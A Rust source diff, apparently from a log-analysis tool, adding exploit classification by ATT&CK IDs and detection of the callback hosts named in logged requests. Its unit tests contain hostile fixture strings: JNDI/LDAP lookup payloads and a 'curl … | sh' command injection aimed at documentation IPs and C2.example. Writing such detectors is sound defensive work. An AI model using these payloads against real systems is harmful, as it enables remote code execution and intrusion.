@@ -4,6 +4,7 @@ use std::net::IpAddr;
 
 use serde::{Deserialize, Serialize};
 
+use crate::mention::mentions;
 use crate::time::Timestamp;
 
 /// An attempt that a log shows: a line, or a series of them.
@@ -44,6 +45,25 @@ pub struct Attempt {
     pub raw: String,
 }
 
+impl Attempt {
+    /// Whether it was meant to make a program do what its user does not want, rather than to look or to guess.
+    pub fn is_exploit(&self) -> bool {
+        self.verdict >= Verdict::Attempted && self.attack.iter().any(|id| EXPLOITS.contains(&id.as_str()))
+    }
+
+    /// Whether what was sent names this address, or one of these names: whom it would have called back.
+    pub fn names<'n>(&self, address: IpAddr, names: impl IntoIterator<Item = &'n str>) -> bool {
+        let is_of_client = self.remote == Some(address) || self.claimed_remote == Some(address);
+        // Its own address stands in each of a client's lines.
+        let is_named = mentions(&self.raw, &address.to_string()) > usize::from(is_of_client);
+        is_named || names.into_iter().any(|name| name.contains('.') && mentions(&self.raw, name) > 0)
+    }
+}
+
+/// ATT&CK: exploit a public-facing application, exploitation for client execution, of remote services, a server's
+/// software component (web shells among them).
+const EXPLOITS: &[&str] = &["T1190", "T1203", "T1210", "T1505", "T1505.003"];
+
 /// What shows it.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(rename_all = "lowercase")]
@@ -71,3 +91,54 @@ pub enum Verdict {
 pub const LINES_MAX: usize = 100;
 /// Bytes of a line that are shown.
 pub const RAW_BYTES_MAX: usize = 4096;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn attempt(raw: &str) -> Attempt {
+        Attempt {
+            kind: ShownBy::Line,
+            file: "a.log".into(),
+            line: 1,
+            offset: 0,
+            lines: vec![],
+            time: None,
+            remote: Some("203.0.113.9".parse().unwrap()),
+            claimed_remote: None,
+            family: "jndi".into(),
+            attack: vec!["T1190".into()],
+            cves: vec![],
+            verdict: Verdict::Attempted,
+            rule: "jndi-lookup".into(),
+            reasons: vec![],
+            raw: raw.into(),
+        }
+    }
+
+    #[test]
+    fn whom_a_request_would_call_back_is_found_and_its_sender_is_not() {
+        let (peer, sender) = ("203.0.113.66".parse().unwrap(), "203.0.113.9".parse().unwrap());
+        let plain = attempt("203.0.113.9 - - [x] \"GET /?x=${jndi:ldap://203.0.113.66:1389/a} HTTP/1.1\" 200 5");
+        assert!(plain.names(peer, []) && !plain.names(sender, []));
+        assert!(
+            attempt("203.0.113.9 \"GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D\"").names(peer, [])
+        );
+        assert!(attempt("203.0.113.9 \"GET /?x=;curl 203.0.113.9/x|sh\"").names(sender, []));
+        let named = attempt("203.0.113.9 \"GET /?x=${jndi:ldap://C2.example/a}\"");
+        assert!(named.names(peer, ["c2.example"]) && !named.names(peer, ["2.example"]) && !named.names(peer, ["com"]));
+        for other in ["203.0.113.166", "1203.0.113.66", "203.0.113.66.5", "3.203.0.113.66"] {
+            assert!(!attempt(&format!("203.0.113.9 \"GET /?x=http://{other}/\"")).names(peer, []), "{other}");
+        }
+    }
+
+    #[test]
+    fn guessing_and_looking_are_no_exploits() {
+        let mut one = attempt("");
+        assert!(one.is_exploit());
+        one.verdict = Verdict::Probed;
+        assert!(!one.is_exploit());
+        (one.verdict, one.attack) = (Verdict::LikelySucceeded, vec!["T1110".into()]);
+        assert!(!one.is_exploit());
+    }
+}
